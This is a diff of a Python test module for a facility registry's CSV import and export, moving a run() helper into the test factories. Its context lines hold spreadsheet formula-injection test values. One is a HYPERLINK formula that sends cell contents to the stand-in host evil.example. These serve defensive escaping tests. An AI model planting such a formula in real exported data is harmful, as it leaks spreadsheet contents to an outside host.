@@ -18,11 +18,9 @@ from geo.coords import wgs84_to_bd09, wgs84_to_gcj02
 from registry.errors import RegistryError
 from registry.models import Capability, Change, ChangeSet
 from registry.schemas.interchange import CAPABILITY_COLUMNS, FACILITY_COLUMNS
-from registry.services.districts import district_locator
 from registry.services.exporting import export_dataset
-from registry.services.importing import import_dataset
 from registry.services.records import load_facilities
-from tests.factories import capability, facility, point_in, write_csv, write_dataset
+from tests.factories import capability, facility, point_in, run, write_csv, write_dataset
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
 AT_SUM = "@SUM(A1:A9) 检测站"
@@ -30,12 +28,6 @@ MINUS = "-1+2 实验室"
 PLUS_PHONE = "+86 571 8888 0001"
 FORMULA_CAPABILITY = "=1+1 公式样名称"
 
-
-def run(session, paths, **options):
-    from flask import current_app
-
-    locator = district_locator(current_app.config["DISTRICTS_GEOJSON"])
-    return import_dataset(session, paths, locator=locator, actor="test", **options)
 
 
 def write_chinese(folder: Path, facilities=(), capabilities=()) -> list[Path]:
